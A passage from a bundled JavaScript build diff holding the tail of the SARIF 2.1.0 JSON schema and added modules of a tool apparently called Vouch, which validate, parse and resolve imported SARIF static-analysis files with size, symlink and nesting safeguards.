scanned.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/versionControlDetails"}},"originalUriBaseIds":{"description":"The artifact location specified by each uriBaseId symbol on the machine where the tool originally ran.","type":"object","additionalProperties":{"$ref":"#/definitions/artifactLocation"}},"artifacts":{"description":"An array of artifact objects relevant to the run.","type":"array","minItems":0,"uniqueItems":true,"items":{"$ref":"#/definitions/artifact"}},"logicalLocations":{"description":"An array of logical locations such as namespaces, types or functions.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/logicalLocation"}},"graphs":{"description":"An array of zero or more unique graph objects associated with the run.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/graph"}},"results":{"description":"The set of results contained in an SARIF log. The results array can be omitted when a run is solely exporting rules metadata. It must be present (but may be empty) if a log file represents an actual scan.","type":"array","minItems":0,"uniqueItems":false,"items":{"$ref":"#/definitions/result"}},"automationDetails":{"description":"Automation details that describe this run.","$ref":"#/definitions/runAutomationDetails"},"runAggregates":{"description":"Automation details that describe the aggregate of runs to which this run belongs.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/runAutomationDetails"}},"baselineGuid":{"description":"The \'guid\' property of a previous SARIF \'run\' that comprises the baseline that was used to compute result \'baselineState\' properties for the run.","type":"string","pattern":"^[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[1-5][0-9a-fA-F]{3}-[89abAB][0-9a-fA-F]{3}-[0-9a-fA-F]{12}$"},"redactionTokens":{"description":"An array of strings used to replace sensitive information in a redaction-aware property.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"type":"string"}},"defaultEncoding":{"description":"Specifies the default encoding for any artifact object that refers to a text file.","type":"string"},"defaultSourceLanguage":{"description":"Specifies the default source language for any artifact object that refers to a text file that contains source code.","type":"string"},"newlineSequences":{"description":"An ordered list of character sequences that were treated as line breaks when computing region information for the run.","type":"array","minItems":1,"uniqueItems":true,"default":["\\r\\n","\\n"],"items":{"type":"string"}},"columnKind":{"description":"Specifies the unit in which the tool measures columns.","enum":["utf16CodeUnits","unicodeCodePoints"]},"externalPropertyFileReferences":{"description":"References to external property files that should be inlined with the content of a root log file.","$ref":"#/definitions/externalPropertyFileReferences"},"threadFlowLocations":{"description":"An array of threadFlowLocation objects cached at run level.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/threadFlowLocation"}},"taxonomies":{"description":"An array of toolComponent objects relevant to a taxonomy in which results are categorized.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/toolComponent"}},"addresses":{"description":"Addresses associated with this run instance, if any.","type":"array","minItems":0,"uniqueItems":false,"default":[],"items":{"$ref":"#/definitions/address"}},"translations":{"description":"The set of available translations of the localized data provided by the tool.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/toolComponent"}},"policies":{"description":"Contains configurations that may potentially override both reportingDescriptor.defaultConfiguration (the tool\'s default severities) and invocation.configurationOverrides (severities established at run-time from the command line).","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/toolComponent"}},"webRequests":{"description":"An array of request objects cached at run level.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/webRequest"}},"webResponses":{"description":"An array of response objects cached at run level.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/webResponse"}},"specialLocations":{"description":"A specialLocations object that defines locations of special significance to SARIF consumers.","$ref":"#/definitions/specialLocations"},"properties":{"description":"Key/value pairs that provide additional information about the run.","$ref":"#/definitions/propertyBag"}},"required":["tool"]},"runAutomationDetails":{"description":"Information that describes a run\'s identity and role within an engineering system process.","additionalProperties":false,"type":"object","properties":{"description":{"description":"A description of the identity and role played within the engineering system by this object\'s containing run object.","$ref":"#/definitions/message"},"id":{"description":"A hierarchical string that uniquely identifies this object\'s containing run object.","type":"string"},"guid":{"description":"A stable, unique identifier for this object\'s containing run object in the form of a GUID.","type":"string","pattern":"^[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[1-5][0-9a-fA-F]{3}-[89abAB][0-9a-fA-F]{3}-[0-9a-fA-F]{12}$"},"correlationGuid":{"description":"A stable, unique identifier for the equivalence class of runs to which this object\'s containing run object belongs in the form of a GUID.","type":"string","pattern":"^[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[1-5][0-9a-fA-F]{3}-[89abAB][0-9a-fA-F]{3}-[0-9a-fA-F]{12}$"},"properties":{"description":"Key/value pairs that provide additional information about the run automation details.","$ref":"#/definitions/propertyBag"}}},"specialLocations":{"description":"Defines locations of special significance to SARIF consumers.","type":"object","additionalProperties":false,"properties":{"displayBase":{"description":"Provides a suggestion to SARIF consumers to display file paths relative to the specified location.","$ref":"#/definitions/artifactLocation"},"properties":{"description":"Key/value pairs that provide additional information about the special locations.","$ref":"#/definitions/propertyBag"}}},"stack":{"description":"A call stack that is relevant to a result.","additionalProperties":false,"type":"object","properties":{"message":{"description":"A message relevant to this call stack.","$ref":"#/definitions/message"},"frames":{"description":"An array of stack frames that represents a sequence of calls, rendered in reverse chronological order, that comprise the call stack.","type":"array","minItems":0,"uniqueItems":false,"items":{"$ref":"#/definitions/stackFrame"}},"properties":{"description":"Key/value pairs that provide additional information about the stack.","$ref":"#/definitions/propertyBag"}},"required":["frames"]},"stackFrame":{"description":"A function call within a stack trace.","additionalProperties":false,"type":"object","properties":{"location":{"description":"The location to which this stack frame refers.","$ref":"#/definitions/location"},"module":{"description":"The name of the module that contains the code of this stack frame.","type":"string"},"threadId":{"description":"The thread identifier of the stack frame.","type":"integer"},"parameters":{"description":"The parameters of the call that is executing.","type":"array","minItems":0,"uniqueItems":false,"default":[],"items":{"type":"string","default":[]}},"properties":{"description":"Key/value pairs that provide additional information about the stack frame.","$ref":"#/definitions/propertyBag"}}},"suppression":{"description":"A suppression that is relevant to a result.","additionalProperties":false,"type":"object","properties":{"guid":{"description":"A stable, unique identifier for the suppression in the form of a GUID.","type":"string","pattern":"^[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[1-5][0-9a-fA-F]{3}-[89abAB][0-9a-fA-F]{3}-[0-9a-fA-F]{12}$"},"kind":{"description":"A string that indicates where the suppression is persisted.","enum":["inSource","external"]},"status":{"description":"A string that indicates the review status of the suppression.","enum":["accepted","underReview","rejected"]},"justification":{"description":"A string representing the justification for the suppression.","type":"string"},"location":{"description":"Identifies the location associated with the suppression.","$ref":"#/definitions/location"},"properties":{"description":"Key/value pairs that provide additional information about the suppression.","$ref":"#/definitions/propertyBag"}},"required":["kind"]},"threadFlow":{"description":"Describes a sequence of code locations that specify a path through a single thread of execution such as an operating system or fiber.","type":"object","additionalProperties":false,"properties":{"id":{"description":"An string that uniquely identifies the threadFlow within the codeFlow in which it occurs.","type":"string"},"message":{"description":"A message relevant to the thread flow.","$ref":"#/definitions/message"},"initialState":{"description":"Values of relevant expressions at the start of the thread flow that may change during thread flow execution.","type":"object","additionalProperties":{"$ref":"#/definitions/multiformatMessageString"}},"immutableState":{"description":"Values of relevant expressions at the start of the thread flow that remain constant.","type":"object","additionalProperties":{"$ref":"#/definitions/multiformatMessageString"}},"locations":{"description":"A temporally ordered array of \'threadFlowLocation\' objects, each of which describes a location visited by the tool while producing the result.","type":"array","minItems":1,"uniqueItems":false,"items":{"$ref":"#/definitions/threadFlowLocation"}},"properties":{"description":"Key/value pairs that provide additional information about the thread flow.","$ref":"#/definitions/propertyBag"}},"required":["locations"]},"threadFlowLocation":{"description":"A location visited by an analysis tool while simulating or monitoring the execution of a program.","additionalProperties":false,"type":"object","properties":{"index":{"description":"The index within the run threadFlowLocations array.","type":"integer","default":-1,"minimum":-1},"location":{"description":"The code location.","$ref":"#/definitions/location"},"stack":{"description":"The call stack leading to this location.","$ref":"#/definitions/stack"},"kinds":{"description":"A set of distinct strings that categorize the thread flow location. Well-known kinds include \'acquire\', \'release\', \'enter\', \'exit\', \'call\', \'return\', \'branch\', \'implicit\', \'false\', \'true\', \'caution\', \'danger\', \'unknown\', \'unreachable\', \'taint\', \'function\', \'handler\', \'lock\', \'memory\', \'resource\', \'scope\' and \'value\'.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"type":"string"}},"taxa":{"description":"An array of references to rule or taxonomy reporting descriptors that are applicable to the thread flow location.","type":"array","default":[],"minItems":0,"uniqueItems":true,"items":{"$ref":"#/definitions/reportingDescriptorReference"}},"module":{"description":"The name of the module that contains the code that is executing.","type":"string"},"state":{"description":"A dictionary, each of whose keys specifies a variable or expression, the associated value of which represents the variable or expression value. For an annotation of kind \'continuation\', for example, this dictionary might hold the current assumed values of a set of global variables.","type":"object","additionalProperties":{"$ref":"#/definitions/multiformatMessageString"}},"nestingLevel":{"description":"An integer representing a containment hierarchy within the thread flow.","type":"integer","minimum":0},"executionOrder":{"description":"An integer representing the temporal order in which execution reached this location.","type":"integer","default":-1,"minimum":-1},"executionTimeUtc":{"description":"The Coordinated Universal Time (UTC) date and time at which this location was executed.","type":"string","format":"date-time"},"importance":{"description":"Specifies the importance of this location in understanding the code flow in which it occurs. The order from most to least important is \\"essential\\", \\"important\\", \\"unimportant\\". Default: \\"important\\".","enum":["important","essential","unimportant"],"default":"important"},"webRequest":{"description":"A web request associated with this thread flow location.","$ref":"#/definitions/webRequest"},"webResponse":{"description":"A web response associated with this thread flow location.","$ref":"#/definitions/webResponse"},"properties":{"description":"Key/value pairs that provide additional information about the threadflow location.","$ref":"#/definitions/propertyBag"}}},"tool":{"description":"The analysis tool that was run.","additionalProperties":false,"type":"object","properties":{"driver":{"description":"The analysis tool that was run.","$ref":"#/definitions/toolComponent"},"extensions":{"description":"Tool extensions that contributed to or reconfigured the analysis tool that was run.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/toolComponent"}},"properties":{"description":"Key/value pairs that provide additional information about the tool.","$ref":"#/definitions/propertyBag"}},"required":["driver"]},"toolComponent":{"description":"A component, such as a plug-in or the driver, of the analysis tool that was run.","additionalProperties":false,"type":"object","properties":{"guid":{"description":"A unique identifier for the tool component in the form of a GUID.","type":"string","pattern":"^[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[1-5][0-9a-fA-F]{3}-[89abAB][0-9a-fA-F]{3}-[0-9a-fA-F]{12}$"},"name":{"description":"The name of the tool component.","type":"string"},"organization":{"description":"The organization or company that produced the tool component.","type":"string"},"product":{"description":"A product suite to which the tool component belongs.","type":"string"},"productSuite":{"description":"A localizable string containing the name of the suite of products to which the tool component belongs.","type":"string"},"shortDescription":{"description":"A brief description of the tool component.","$ref":"#/definitions/multiformatMessageString"},"fullDescription":{"description":"A comprehensive description of the tool component.","$ref":"#/definitions/multiformatMessageString"},"fullName":{"description":"The name of the tool component along with its version and any other useful identifying information, such as its locale.","type":"string"},"version":{"description":"The tool component version, in whatever format the component natively provides.","type":"string"},"semanticVersion":{"description":"The tool component version in the format specified by Semantic Versioning 2.0.","type":"string"},"dottedQuadFileVersion":{"description":"The binary version of the tool component\'s primary executable file expressed as four non-negative integers separated by a period (for operating systems that express file versions in this way).","type":"string","pattern":"[0-9]+(\\\\.[0-9]+){3}"},"releaseDateUtc":{"description":"A string specifying the UTC date (and optionally, the time) of the component\'s release.","type":"string"},"downloadUri":{"description":"The absolute URI from which the tool component can be downloaded.","type":"string","format":"uri"},"informationUri":{"description":"The absolute URI at which information about this version of the tool component can be found.","type":"string","format":"uri"},"globalMessageStrings":{"description":"A dictionary, each of whose keys is a resource identifier and each of whose values is a multiformatMessageString object, which holds message strings in plain text and (optionally) Markdown format. The strings can include placeholders, which can be used to construct a message in combination with an arbitrary number of additional string arguments.","type":"object","additionalProperties":{"$ref":"#/definitions/multiformatMessageString"}},"notifications":{"description":"An array of reportingDescriptor objects relevant to the notifications related to the configuration and runtime execution of the tool component.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/reportingDescriptor"}},"rules":{"description":"An array of reportingDescriptor objects relevant to the analysis performed by the tool component.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/reportingDescriptor"}},"taxa":{"description":"An array of reportingDescriptor objects relevant to the definitions of both standalone and tool-defined taxonomies.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/reportingDescriptor"}},"locations":{"description":"An array of the artifactLocation objects associated with the tool component.","type":"array","minItems":0,"default":[],"items":{"$ref":"#/definitions/artifactLocation"}},"language":{"description":"The language of the messages emitted into the log file during this run (expressed as an ISO 639-1 two-letter lowercase language code) and an optional region (expressed as an ISO 3166-1 two-letter uppercase subculture code associated with a country or region). The casing is recommended but not required (in order for this data to conform to RFC5646).","type":"string","default":"en-US","pattern":"^[a-zA-Z]{2}|^[a-zA-Z]{2}-[a-zA-Z]{2}]?$"},"contents":{"description":"The kinds of data contained in this object.","type":"array","uniqueItems":true,"default":["localizedData","nonLocalizedData"],"items":{"enum":["localizedData","nonLocalizedData"]}},"isComprehensive":{"description":"Specifies whether this object contains a complete definition of the localizable and/or non-localizable data for this component, as opposed to including only data that is relevant to the results persisted to this log file.","type":"boolean","default":false},"localizedDataSemanticVersion":{"description":"The semantic version of the localized strings defined in this component; maintained by components that provide translations.","type":"string"},"minimumRequiredLocalizedDataSemanticVersion":{"description":"The minimum value of localizedDataSemanticVersion required in translations consumed by this component; used by components that consume translations.","type":"string"},"associatedComponent":{"description":"The component which is strongly associated with this component. For a translation, this refers to the component which has been translated. For an extension, this is the driver that provides the extension\'s plugin model.","$ref":"#/definitions/toolComponentReference"},"translationMetadata":{"description":"Translation metadata, required for a translation, not populated by other component types.","$ref":"#/definitions/translationMetadata"},"supportedTaxonomies":{"description":"An array of toolComponentReference objects to declare the taxonomies supported by the tool component.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/toolComponentReference"}},"properties":{"description":"Key/value pairs that provide additional information about the tool component.","$ref":"#/definitions/propertyBag"}},"required":["name"]},"toolComponentReference":{"description":"Identifies a particular toolComponent object, either the driver or an extension.","type":"object","additionalProperties":false,"properties":{"name":{"description":"The \'name\' property of the referenced toolComponent.","type":"string"},"index":{"description":"An index into the referenced toolComponent in tool.extensions.","type":"integer","default":-1,"minimum":-1},"guid":{"description":"The \'guid\' property of the referenced toolComponent.","type":"string","pattern":"^[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[1-5][0-9a-fA-F]{3}-[89abAB][0-9a-fA-F]{3}-[0-9a-fA-F]{12}$"},"properties":{"description":"Key/value pairs that provide additional information about the toolComponentReference.","$ref":"#/definitions/propertyBag"}}},"translationMetadata":{"description":"Provides additional metadata related to translation.","type":"object","additionalProperties":false,"properties":{"name":{"description":"The name associated with the translation metadata.","type":"string"},"fullName":{"description":"The full name associated with the translation metadata.","type":"string"},"shortDescription":{"description":"A brief description of the translation metadata.","$ref":"#/definitions/multiformatMessageString"},"fullDescription":{"description":"A comprehensive description of the translation metadata.","$ref":"#/definitions/multiformatMessageString"},"downloadUri":{"description":"The absolute URI from which the translation metadata can be downloaded.","type":"string","format":"uri"},"informationUri":{"description":"The absolute URI from which information related to the translation metadata can be downloaded.","type":"string","format":"uri"},"properties":{"description":"Key/value pairs that provide additional information about the translation metadata.","$ref":"#/definitions/propertyBag"}},"required":["name"]},"versionControlDetails":{"description":"Specifies the information necessary to retrieve a desired revision from a version control system.","type":"object","additionalProperties":false,"properties":{"repositoryUri":{"description":"The absolute URI of the repository.","type":"string","format":"uri"},"revisionId":{"description":"A string that uniquely and permanently identifies the revision within the repository.","type":"string"},"branch":{"description":"The name of a branch containing the revision.","type":"string"},"revisionTag":{"description":"A tag that has been applied to the revision.","type":"string"},"asOfTimeUtc":{"description":"A Coordinated Universal Time (UTC) date and time that can be used to synchronize an enlistment to the state of the repository at that time.","type":"string","format":"date-time"},"mappedTo":{"description":"The location in the local file system to which the root of the repository was mapped at the time of the analysis.","$ref":"#/definitions/artifactLocation"},"properties":{"description":"Key/value pairs that provide additional information about the version control details.","$ref":"#/definitions/propertyBag"}},"required":["repositoryUri"]},"webRequest":{"description":"Describes an HTTP request.","type":"object","additionalProperties":false,"properties":{"index":{"description":"The index within the run.webRequests array of the request object associated with this result.","type":"integer","default":-1,"minimum":-1},"protocol":{"description":"The request protocol. Example: \'http\'.","type":"string"},"version":{"description":"The request version. Example: \'1.1\'.","type":"string"},"target":{"description":"The target of the request.","type":"string"},"method":{"description":"The HTTP method. Well-known values are \'GET\', \'PUT\', \'POST\', \'DELETE\', \'PATCH\', \'HEAD\', \'OPTIONS\', \'TRACE\', \'CONNECT\'.","type":"string"},"headers":{"description":"The request headers.","type":"object","additionalProperties":{"type":"string"}},"parameters":{"description":"The request parameters.","type":"object","additionalProperties":{"type":"string"}},"body":{"description":"The body of the request.","$ref":"#/definitions/artifactContent"},"properties":{"description":"Key/value pairs that provide additional information about the request.","$ref":"#/definitions/propertyBag"}}},"webResponse":{"description":"Describes the response to an HTTP request.","type":"object","additionalProperties":false,"properties":{"index":{"description":"The index within the run.webResponses array of the response object associated with this result.","type":"integer","default":-1,"minimum":-1},"protocol":{"description":"The response protocol. Example: \'http\'.","type":"string"},"version":{"description":"The response version. Example: \'1.1\'.","type":"string"},"statusCode":{"description":"The response status code. Example: 451.","type":"integer"},"reasonPhrase":{"description":"The response reason. Example: \'Not found\'.","type":"string"},"headers":{"description":"The response headers.","type":"object","additionalProperties":{"type":"string"}},"body":{"description":"The body of the response.","$ref":"#/definitions/artifactContent"},"noResponseReceived":{"description":"Specifies whether a response was received from the server.","type":"boolean","default":false},"properties":{"description":"Key/value pairs that provide additional information about the response.","$ref":"#/definitions/propertyBag"}}}}}');
+;// CONCATENATED MODULE: ./src/sarif/validate.ts
+
+
+// RFC 3986 characters only: an unencoded space or a bad percent escape in a URI is a violation, as it
+// is for GitHub's upload. ajv-formats' full URI grammar would be stricter than the tools that write SARIF.
+const URI_CHARS = String.raw `(?:[A-Za-z0-9\-._~:/?#[\]@!$&'()*+,;=]|%[0-9A-Fa-f]{2})*`;
+const FORMATS = {
+    'uri-reference': new RegExp(`^${URI_CHARS}$`),
+    uri: new RegExp(`^[A-Za-z][A-Za-z0-9+.-]*:${URI_CHARS}$`),
+    'date-time': /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(?:\.\d+)?(?:Z|[+-]\d\d:\d\d)$/i,
+};
+let validate_compiled;
+/** Compiled on first use: the schema is large and most runs of Vouch never import SARIF. */
+function validator() {
+    if (validate_compiled)
+        return validate_compiled;
+    // The schema is draft-04, and its `language` pattern is not a valid unicode-mode regular expression,
+    // so ajv must compile it with `unicodeRegExp: false` (FACTS.md). A CommonJS module seen from ESM: the
+    // class is its `default` export.
+    const ajv = new (dist_default())["default"]({ allErrors: true, strict: false, unicodeRegExp: false });
+    for (const [name, pattern] of Object.entries(FORMATS))
+        ajv.addFormat(name, pattern);
+    validate_compiled = ajv.compile(sarif_2_1_0_namespaceObject);
+    return validate_compiled;
+}
+function describe(error) {
+    const message = error.message ?? error.keyword;
+    const params = error.params;
+    if (error.keyword === 'enum' && Array.isArray(params.allowedValues)) {
+        return `${message}: ${params.allowedValues.map((value) => JSON.stringify(value)).join(', ')}`;
+    }
+    if (error.keyword === 'additionalProperties' && typeof params.additionalProperty === 'string') {
+        return `${message}: ${JSON.stringify(params.additionalProperty)}`;
+    }
+    return message;
+}
+/**
+ * Schema violations of a SARIF log, in the validator's order (document order for sibling properties),
+ * at most `limit` of them; empty when the log is valid.
+ */
+function sarifViolations(log, limit = Number.POSITIVE_INFINITY) {
+    const validate = validator();
+    if (validate(log))
+        return [];
+    return (validate.errors ?? [])
+        .slice(0, limit)
+        .map((error) => ({ pointer: error.instancePath, message: describe(error) }));
+}
+/** `<JSON pointer> <message>`, with `/` standing for the document itself. */
+function formatViolation(violation) {
+    return `${violation.pointer || '/'} ${violation.message}`;
+}
+
+;// CONCATENATED MODULE: ./src/scanners/sarif-import/model.ts
+
+/** A `multiformatMessageString`/`message`'s plain text; markdown is not read. */
+function plain(value) {
+    return guards_text(guards_record(value)?.text);
+}
+function stringMap(value) {
+    const map = new Map();
+    for (const [key, entry] of Object.entries(bag(value))) {
+        const entryText = plain(entry);
+        if (entryText !== undefined)
+            map.set(key, entryText);
+    }
+    return map;
+}
+function componentRef(value) {
+    const item = guards_record(value);
+    if (!item)
+        return undefined;
+    return { name: guards_text(item.name), index: integer(item.index), guid: guards_text(item.guid) };
+}
+function descriptorRef(value) {
+    const item = guards_record(value);
+    if (!item)
+        return undefined;
+    return { id: guards_text(item.id), index: integer(item.index), toolComponent: componentRef(item.toolComponent) };
+}
+function refs(values) {
+    return guards_list(values).flatMap((value) => descriptorRef(value) ?? []);
+}
+function descriptor(value) {
+    const item = guards_record(value);
+    const id = guards_text(item?.id);
+    if (!item || id === undefined)
+        return undefined;
+    const help = guards_record(item.help);
+    return {
+        id,
+        name: guards_text(item.name),
+        shortDescription: plain(item.shortDescription),
+        fullDescription: plain(item.fullDescription),
+        help: guards_text(help?.markdown) ?? guards_text(help?.text),
+        helpUri: guards_text(item.helpUri),
+        defaultLevel: level(guards_record(item.defaultConfiguration)?.level),
+        messageStrings: stringMap(item.messageStrings),
+        relationships: guards_list(item.relationships).flatMap((relation) => descriptorRef(guards_record(relation)?.target) ?? []),
+        properties: bag(item.properties),
+    };
+}
+function component(value) {
+    const item = bag(value);
+    return {
+        name: guards_text(item.name) ?? '',
+        guid: guards_text(item.guid),
+        version: guards_text(item.semanticVersion) ?? guards_text(item.version),
+        rules: guards_list(item.rules)
+            .map(descriptor)
+            .filter((rule) => rule !== undefined),
+        taxa: guards_list(item.taxa)
+            .map(descriptor)
+            .filter((taxon) => taxon !== undefined),
+        globalMessageStrings: stringMap(item.globalMessageStrings),
+    };
+}
+function artifactRef(value) {
+    const item = guards_record(value);
+    if (!item)
+        return undefined;
+    return { uri: guards_text(item.uri), uriBaseId: guards_text(item.uriBaseId), index: integer(item.index) };
+}
+function model_region(value) {
+    const item = guards_record(value);
+    if (!item)
+        return undefined;
+    return {
+        startLine: integer(item.startLine),
+        startColumn: integer(item.startColumn),
+        endLine: integer(item.endLine),
+        endColumn: integer(item.endColumn),
+    };
+}
+function model_location(value) {
+    const physical = guards_record(guards_record(value)?.physicalLocation);
+    const artifact = artifactRef(physical?.artifactLocation);
+    if (!physical || !artifact)
+        return undefined;
+    return { artifact, region: model_region(physical.region) };
+}
+function model_message(value) {
+    const item = bag(value);
+    const args = guards_list(item.arguments).map((argument) => guards_text(argument) ?? '');
+    return { text: guards_text(item.text), id: guards_text(item.id), arguments: args };
+}
+function result(value) {
+    const item = bag(value);
+    return {
+        ruleId: guards_text(item.ruleId),
+        ruleIndex: integer(item.ruleIndex),
+        rule: descriptorRef(item.rule),
+        kind: guards_text(item.kind),
+        level: level(item.level),
+        message: model_message(item.message),
+        locations: guards_list(item.locations).flatMap((entry) => model_location(entry) ?? []),
+        suppressions: guards_list(item.suppressions).map((suppression) => guards_text(guards_record(suppression)?.status)),
+        baselineState: guards_text(item.baselineState),
+        taxa: refs(item.taxa),
+        properties: bag(item.properties),
+    };
+}
+function uriBaseIds(value) {
+    const map = new Map();
+    for (const [key, entry] of Object.entries(bag(value))) {
+        const ref = artifactRef(entry);
+        if (ref)
+            map.set(key, ref);
+    }
+    return map;
+}
+function model_run(value) {
+    const item = bag(value);
+    const tool = bag(item.tool);
+    const results = Array.isArray(item.results) ? item.results.map(result) : undefined;
+    return {
+        driver: component(tool.driver),
+        extensions: guards_list(tool.extensions).map(component),
+        taxonomies: guards_list(item.taxonomies).map(component),
+        originalUriBaseIds: uriBaseIds(item.originalUriBaseIds),
+        artifacts: guards_list(item.artifacts).map((artifact) => artifactRef(guards_record(artifact)?.location)),
+        executionFailed: guards_list(item.invocations).some((invocation) => guards_record(invocation)?.executionSuccessful === false),
+        ...(results ? { results } : {}),
+    };
+}
+/** The runs of a schema-valid SARIF log. */
+function importedRuns(log) {
+    return guards_list(guards_record(log)?.runs).map(model_run);
+}
+
+;// CONCATENATED MODULE: ./src/scanners/sarif-import/parse.ts
+
+
+/** Well above CodeQL's largest real outputs, well below what JSON.parse and the validator handle. */
+const MAX_SARIF_BYTES = 100 * 1024 * 1024;
+/**
+ * Where JSON.parse stopped, without its excerpt of the input: the file may be anything a pattern
+ * matched (a credentials file, a symlink target), and its bytes must not reach logs or summaries.
+ */
+function jsonFailure(thrown) {
+    const message = thrown instanceof Error ? thrown.message : '';
+    const position = /at position \d+(?: \(line \d+ column \d+\))?/.exec(message)?.[0];
+    if (position)
+        return `is not valid JSON (syntax error ${position})`;
+    return /unexpected end/i.test(message) ? 'is not valid JSON (it ends too early)' : 'is not valid JSON';
+}
+/** Parses and schema-checks one SARIF document; `name` is how messages refer to the file. */
+function parseSarif(content, name) {
+    let log;
+    try {
+        // A UTF-8 byte order mark is legal in a SARIF file (some Windows tools write one) but not in JSON.
+        log = JSON.parse(content.replace(/^\uFEFF/, ''));
+    }
+    catch (thrown) {
+        return { kind: 'invalid', message: `${name} ${jsonFailure(thrown)}` };
+    }
+    let violations;
+    try {
+        violations = sarifViolations(log, 1);
+    }
+    catch {
+        // The validator recurses; a hostile document nested deeply enough exhausts the stack.
+        return {
+            kind: 'invalid',
+            message: `${name} could not be checked against the SARIF 2.1.0 schema (nested too deeply)`,
+        };
+    }
+    const first = violations[0];
+    if (first)
+        return { kind: 'invalid', message: `${name} is not valid SARIF 2.1.0: ${formatViolation(first)}` };
+    return { kind: 'parsed', runs: importedRuns(log) };
+}
+/** Reads a SARIF file through the FileSystem port, refusing what is too large before reading it. */
+async function readSarif(fs, path, name, maxBytes = MAX_SARIF_BYTES) {
+    const stat = await fs.lstat(path);
+    if (!stat)
+        return { kind: 'invalid', message: `${name} no longer exists` };
+    if (stat.kind !== 'file')
+        return { kind: 'invalid', message: `${name} is not a regular file (${stat.kind})` };
+    if (stat.size > maxBytes) {
+        const size = (bytes) => bytes < 1024 * 1024 ? `${bytes} bytes` : `${Math.round(bytes / (1024 * 1024))} MB`;
+        return {
+            kind: 'invalid',
+            message: `${name} is ${size(stat.size)}, over the ${size(maxBytes)} limit for imported SARIF; split the analysis or filter its results`,
+        };
+    }
+    let bytes;
+    try {
+        bytes = await fs.readFile(path);
+    }
+    catch (thrown) {
+        const code = thrown?.code;
+        return {
+            kind: 'invalid',
+            message: `${name} could not be read${typeof code === 'string' ? ` (${code})` : ''}`,
+        };
+    }
+    return parseSarif(new TextDecoder('utf-8').decode(bytes), name);
+}
+
+;// CONCATENATED MODULE: ./src/scanners/sarif-import/resolve.ts
+
+
+/** More files than any real pipeline writes; a pattern like `/**` would otherwise walk the machine. */
+const MAX_SARIF_FILES = 1000;
+const GLOB_MAGIC = /[*?[\]{}]/;
+function displayName(root, path) {
+    const rel = (0,external_node_path_.relative)(root, path);
+    const outside = rel === '' || rel === '..' || rel.startsWith(`..${external_node_path_.sep}`) || (0,external_node_path_.isAbsolute)(rel);
+    return outside ? path : rel.split(external_node_path_.sep).join('/');
+}
+async function resolve_kindOf(path) {
+    try {
+        const stat = await (0,promises_namespaceObject.lstat)(path);
+        if (stat.isSymbolicLink())
+            return 'symlink';
+        return stat.isFile() ? 'file' : stat.isDirectory() ? 'directory' : 'other';
+    }
+    catch {
+        return 'missing';
+    }
+}
+/** Files a glob matches, not following symlinks: a link is reported, so a hostile tree cannot redirect. */
+async function expand(pattern, cwd) {
+    const files = [];
+    for await (const entry of (0,promises_namespaceObject.glob)(pattern, { cwd, withFileTypes: true })) {
+        const path = (0,external_node_path_.join)(entry.parentPath, entry.name);
+        if (entry.isSymbolicLink())
+            return { files, symlink: path };
+        if (entry.isFile())
+            files.push(path);
+        if (files.length > MAX_SARIF_FILES)
+            break;
+    }
+    return { files };
+}
+/**
+ * A directory stands for every `*.sarif` below it, as in GitHub's upload-sarif; a literal path must be a
+ * regular file; anything else is a glob. Each pattern must match at least one file: a configured input
+ * that silently matched nothing would hide a broken pipeline.
+ */
+async function resolveOne(pattern, root) {
+    const quoted = JSON.stringify(pattern);
+    const absolute = (0,external_node_path_.resolve)(root, pattern);
+    let matched;
+    if (GLOB_MAGIC.test(pattern)) {
+        matched = await expand(pattern, root);
+    }
+    else {
+        const kind = await resolve_kindOf(absolute);
+        if (kind === 'file')
+            return [absolute];
+        if (kind === 'symlink')
+            return `SARIF path ${quoted} is a symbolic link; point it at the file itself`;
+        if (kind !== 'directory')
+            return `SARIF path ${quoted} matches no file (looked for ${absolute})`;
+        matched = await expand('**/*.sarif', absolute);
+    }
+    if (matched.symlink !== undefined) {
+        return `SARIF pattern ${quoted} matches the symbolic link ${matched.symlink}; point it at real files`;
+    }
+    if (matched.files.length > MAX_SARIF_FILES) {
+        return `SARIF pattern ${quoted} matches more than ${MAX_SARIF_FILES} files; narrow it`;
+    }
+    if (matched.files.length === 0)
+        return `SARIF pattern ${quoted} matches no file (relative to ${root})`;
+    return matched.files;
+}
+/**
+ * Expands the configured paths and globs, relative to the repository root or absolute (SARIF often
+ * lands in the runner's temp directory), into a sorted list of distinct files.
+ */
+async function resolveSarifFiles(patterns, root) {
+    const found = new Set();
+    for (const raw of patterns) {
+        const pattern = raw.trim();
+        if (pattern === '')
+            return { kind: 'invalid', message: 'an empty SARIF path was configured' };
+        const files = await resolveOne(pattern, root);
+        if (typeof files === 'string')
+            return { kind: 'invalid', message: files };
+        for (const file of files)
+            found.add(file);
+    }
+    if (found.size > MAX_SARIF_FILES) {
+        return {
+            kind: 'invalid',
+            message: `the SARIF patterns match more than ${MAX_SARIF_FILES} files; narrow them`,
+        };
+    }
